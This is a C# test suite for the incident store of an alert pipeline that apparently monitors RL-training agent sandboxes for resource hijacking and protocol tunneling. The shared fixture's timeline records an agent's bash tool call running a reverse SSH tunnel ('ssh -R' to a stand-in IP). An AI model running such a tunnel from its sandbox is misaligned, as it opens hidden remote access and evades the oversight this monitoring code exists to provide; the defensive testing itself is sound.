using System.Text.Json;
using AlertPipeline.Adapters.Respond;
using AlertPipeline.Adapters.Tests.Storage;
using AlertPipeline.Core.Detect;
using AlertPipeline.Core.Respond;
using AlertPipeline.Core.Respond.Incidents;
using Azure.Data.Tables;

namespace AlertPipeline.Adapters.Tests.Respond;

/// <summary>What every <see cref="IIncidentStore"/> must do; run against the in-memory twin and against Table Storage.</summary>
public abstract class IncidentStoreContract
{
    /// <summary>Base time of the test incidents.</summary>
    protected static readonly DateTimeOffset T0 = new(2025, 11, 14, 3, 12, 0, TimeSpan.Zero);

    /// <summary>A fresh, empty store.</summary>
    protected abstract IIncidentStore Store { get; }

    /// <summary>A fully populated incident of <paramref name="sandbox"/>.</summary>
    protected static Incident NewIncident(string sandbox, int sequence = 1, DateTimeOffset? lastSeen = null, IncidentStatus status = IncidentStatus.Open) => new()
    {
        IncidentId = IncidentIds.For(sandbox, sequence),
        SandboxId = sandbox,
        Sequence = sequence,
        Status = status,
        Level = AlertLevel.Critical,
        HighestAlertLevel = AlertLevel.High,
        LevelReasons = ["combination: resource hijacking + protocol tunneling (T1496 + T1572)"],
        Techniques = ["T1496", "T1572"],
        AlertIds = ["a1", "a2"],
        RunIds = ["ppo-0110"],
        EpisodeIds = ["88123"],
        Commands = [new IncidentCommand("a2", "issued", T0.AddSeconds(4))],
        Notifications = [new IncidentNotification("a1", "opened", AlertLevel.High, ["T1572"], T0.AddSeconds(1))],
        FirstSeen = T0,
        LastSeen = lastSeen ?? T0.AddMinutes(3),
        CreatedAt = T0.AddSeconds(1),
        UpdatedAt = T0.AddSeconds(5),
        Timeline =
        [
            new IncidentTimelineEntry(T0, TimelineKinds.ToolCall, "agent's bash tool call call_88123_07 ran: ssh -R 2222:localhost:22 x@203.0.113.66", "tool:call_88123_07") { AlertId = "a1" },
            new IncidentTimelineEntry(T0.AddSeconds(1), TimelineKinds.Alert, "high alert \"Reverse SSH\" ✓ 𝔘", "alert:a1") { AlertId = "a1", Level = AlertLevel.High },
        ],
    };

    /// <summary>The incident as JSON without its ETag, for whole-object comparison.</summary>
    protected static string Shape(Incident incident)
    {
        var etag = incident.ETag;
        incident.ETag = null;
        try
        {
            return JsonSerializer.Serialize(incident, AlertJson.Options);
        }
        finally
        {
            incident.ETag = etag;
        }
    }

    [Fact]
    public async Task TryAdd_sets_the_etag_and_get_returns_an_equal_incident()
    {
        var incident = NewIncident("rl-env-7731");

        Assert.True(await Store.TryAddAsync(incident, CancellationToken.None));
        var read = await Store.GetAsync(incident.IncidentId, CancellationToken.None);

        Assert.False(string.IsNullOrEmpty(incident.ETag));
        Assert.NotNull(read);
        Assert.Equal(incident.ETag, read.ETag);
        Assert.Equal(Shape(incident), Shape(read));
        Assert.Null(await Store.GetAsync(IncidentIds.For("rl-env-7731", 9), CancellationToken.None));
    }

    [Fact]
    public async Task Two_racing_adds_of_one_id_leave_one_winner()
    {
        var results = await Task.WhenAll(
            Store.TryAddAsync(NewIncident("sbx-race"), CancellationToken.None),
            Store.TryAddAsync(NewIncident("sbx-race"), CancellationToken.None));

        Assert.Single(results, r => r);
        Assert.Single(await Store.ListAsync(new IncidentQuery { SandboxId = "sbx-race" }, CancellationToken.None));
    }

    [Fact]
    public async Task An_update_with_a_stale_etag_is_refused_and_the_current_one_wins()
    {
        var incident = NewIncident("sbx-etag");
        await Store.TryAddAsync(incident, CancellationToken.None);
        var mine = (await Store.GetAsync(incident.IncidentId, CancellationToken.None))!;
        var theirs = (await Store.GetAsync(incident.IncidentId, CancellationToken.None))!;

        theirs.Status = IncidentStatus.Acknowledged;
        Assert.True(await Store.TryUpdateAsync(theirs, CancellationToken.None));
        mine.AlertIds.Add("a3");
        Assert.False(await Store.TryUpdateAsync(mine, CancellationToken.None));

        var stored = (await Store.GetAsync(incident.IncidentId, CancellationToken.None))!;
        Assert.Equal(IncidentStatus.Acknowledged, stored.Status);
        Assert.Equal(["a1", "a2"], stored.AlertIds);
        Assert.Equal(theirs.ETag, stored.ETag);
    }

    [Fact]
    public async Task Update_of_an_incident_never_stored_is_refused()
    {
        Assert.False(await Store.TryUpdateAsync(NewIncident("sbx-none"), CancellationToken.None));
    }

    [Fact]
    public async Task GetLatest_is_the_highest_sequence_of_that_sandbox_only()
    {
        await Store.TryAddAsync(NewIncident("sbx-a", 1), CancellationToken.None);
        await Store.TryAddAsync(NewIncident("sbx-a", 2), CancellationToken.None);
        await Store.TryAddAsync(NewIncident("sbx-a/other", 3), CancellationToken.None);

        Assert.Equal(2, (await Store.GetLatestAsync("sbx-a", CancellationToken.None))!.Sequence);
        Assert.Equal(3, (await Store.GetLatestAsync("sbx-a/other", CancellationToken.None))!.Sequence);
        Assert.Null(await Store.GetLatestAsync("sbx-never", CancellationToken.None));
    }

    [Fact]
    public async Task List_filters_by_sandbox_status_and_time_newest_first_up_to_max()
    {
        await Store.TryAddAsync(NewIncident("sbx-l1", 1, T0.AddMinutes(1), IncidentStatus.Resolved), CancellationToken.None);
        await Store.TryAddAsync(NewIncident("sbx-l1", 2, T0.AddMinutes(50)), CancellationToken.None);
        await Store.TryAddAsync(NewIncident("sbx-l2", 1, T0.AddMinutes(30), IncidentStatus.Contained), CancellationToken.None);

        var all = await Store.ListAsync(new IncidentQuery(), CancellationToken.None);
        var bySandbox = await Store.ListAsync(new IncidentQuery { SandboxId = "sbx-l1" }, CancellationToken.None);
        var open = await Store.ListAsync(new IncidentQuery { Status = IncidentStatus.Open }, CancellationToken.None);
        var recent = await Store.ListAsync(new IncidentQuery { Since = T0.AddMinutes(30) }, CancellationToken.None);
        var top = await Store.ListAsync(new IncidentQuery { Max = 1 }, CancellationToken.None);

        Assert.Equal([("sbx-l1", 2), ("sbx-l2", 1), ("sbx-l1", 1)], all.Select(i => (i.SandboxId, i.Sequence)));
        Assert.Equal([2, 1], bySandbox.Select(i => i.Sequence));
        Assert.Equal([("sbx-l1", 2)], open.Select(i => (i.SandboxId, i.Sequence)));
        Assert.Equal([("sbx-l1", 2), ("sbx-l2", 1)], recent.Select(i => (i.SandboxId, i.Sequence)));
        Assert.Equal([("sbx-l1", 2)], top.Select(i => (i.SandboxId, i.Sequence)));
        Assert.Empty(await Store.ListAsync(new IncidentQuery { Max = 0 }, CancellationToken.None));
    }
}

/// <summary>The contract against <see cref="InMemoryIncidentStore"/>.</summary>
public sealed class InMemoryIncidentStoreTests : IncidentStoreContract
{
    protected override IIncidentStore Store { get; } = new InMemoryIncidentStore();
}

/// <summary>The contract against <see cref="TableIncidentStore"/> on Azurite, plus its layout and self-healing index.</summary>
[Collection(AzuriteCollection.Name)]
public sealed class TableIncidentStoreTests(AzuriteFixture azurite) : IncidentStoreContract
{
    private readonly string _tableName = AzuriteFixture.UniqueTableName("incidents");
    private TableIncidentStore? _store;

    protected override IIncidentStore Store => _store ??= new TableIncidentStore(azurite.TableService, _tableName);

    private TableClient Table => azurite.TableService.GetTableClient(_tableName);

    [Fact]
    public async Task An_incident_is_one_row_with_query_columns_and_one_index_row_per_sandbox()
    {
        var incident = NewIncident("rl-env-7731", 2);
        await Store.TryAddAsync(incident, CancellationToken.None);

        var row = (await Table.GetEntityAsync<TableEntity>(incident.IncidentId, TableIncidentStore.IncidentRow)).Value;
        var index = Assert.Single(Table.Query<TableEntity>(e => e.PartitionKey == TableIncidentStore.SandboxPartition("rl-env-7731")));

        Assert.Equal("rl-env-7731", row.GetString("SandboxId"));
        Assert.Equal("open", row.GetString("Status"));
        Assert.Equal("critical", row.GetString("Level"));
        Assert.Equal(2, row.GetInt32("Sequence"));
        Assert.StartsWith("{", row.GetString("Json0"), StringComparison.Ordinal);
        Assert.Equal(incident.IncidentId, index.GetString("IncidentId"));
    }

    [Fact]
    public async Task A_crash_between_the_incident_and_its_index_row_heals_on_the_next_read()
    {
        var first = NewIncident("sbx-heal", 1);
        var second = NewIncident("sbx-heal", 2);
        await Store.TryAddAsync(first, CancellationToken.None);
        await Store.TryAddAsync(second, CancellationToken.None);
        await Table.DeleteEntityAsync(TableIncidentStore.SandboxPartition("sbx-heal"), (int.MaxValue - 2).ToString("D10", System.Globalization.CultureInfo.InvariantCulture));

        Assert.Equal(2, (await Store.GetLatestAsync("sbx-heal", CancellationToken.None))!.Sequence);
        Assert.Equal(2, Table.Query<TableEntity>(e => e.PartitionKey == TableIncidentStore.SandboxPartition("sbx-heal")).Count());
    }

    [Fact]
    public async Task A_large_incident_is_split_over_columns_and_read_back_whole()
    {
        var incident = NewIncident("sbx-big");
        for (var i = 0; i < 300; i++)
        {
            incident.Timeline.Add(new IncidentTimelineEntry(T0.AddSeconds(i), TimelineKinds.Alert, new string('x', 390) + "✓", $"alert:big{i}"));
        }

        await Store.TryAddAsync(incident, CancellationToken.None);
        var row = (await Table.GetEntityAsync<TableEntity>(incident.IncidentId, TableIncidentStore.IncidentRow)).Value;

        Assert.True(row.ContainsKey("Json3"));
        Assert.Equal(Shape(incident), Shape((await Store.GetAsync(incident.IncidentId, CancellationToken.None))!));
    }
}
